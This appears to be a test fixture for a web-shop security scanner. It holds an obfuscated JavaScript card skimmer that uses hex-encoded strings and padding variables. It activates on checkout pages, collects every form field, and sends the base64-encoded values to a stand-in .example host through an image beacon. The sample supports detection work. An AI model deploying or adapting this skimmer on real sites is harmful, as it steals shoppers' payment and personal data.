/* ShopGuard test sample (defanged; .example host). Obfuscator-style skimmer shape: no readable
   field names, checkout check, harvests every input, beacons out. */
var _0xa1b2 = ['\x63\x68\x65\x63\x6b\x6f\x75\x74', '\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x64\x6e\x2d\x73\x67\x2e\x65\x78\x61\x6d\x70\x6c\x65'];
var _0x1a2b = 0;
var _0x1a2c = 1;
var _0x1a2d = 2;
var _0x1a2e = 3;
var _0x1a2f = 4;
var _0x1a30 = 5;
var _0x1a31 = 6;
var _0x1a32 = 7;
var _0x1a33 = 8;
var _0x1a34 = 9;
var _0x1a35 = 10;
var _0x1a36 = 11;
var _0x1a37 = 12;
var _0x1a38 = 13;
var _0x1a39 = 14;
var _0x1a3a = 15;
var _0x1a3b = 16;
var _0x1a3c = 17;
var _0x1a3d = 18;
var _0x1a3e = 19;
var _0x1a3f = 20;
var _0x1a40 = 21;
var _0x1a41 = 22;
var _0x1a42 = 23;
var _0x1a43 = 24;
var _0x1a44 = 25;
var _0x1a45 = 26;
var _0x1a46 = 27;
var _0x1a47 = 28;
var _0x1a48 = 29;
var _0x1a49 = 30;
var _0x1a4a = 31;
var _0x1a4b = 32;
var _0x1a4c = 33;
var _0x1a4d = 34;
var _0x1a4e = 35;
(function (_0x5c1d) {
  if (!/checkout|onestep/.test(window.location.href)) { return; }
  var _0x9f = {};
  var _0x77 = document.querySelectorAll('input, select');
  for (var _0x1 = 0; _0x1 < _0x77.length; _0x1++) { _0x9f[_0x77[_0x1].name] = _0x77[_0x1].value; }
  var _0x3e = new Image();
  _0x3e.src = _0x5c1d[1] + '/p.gif?d=' + btoa(JSON.stringify(_0x9f));
})(_0xa1b2);
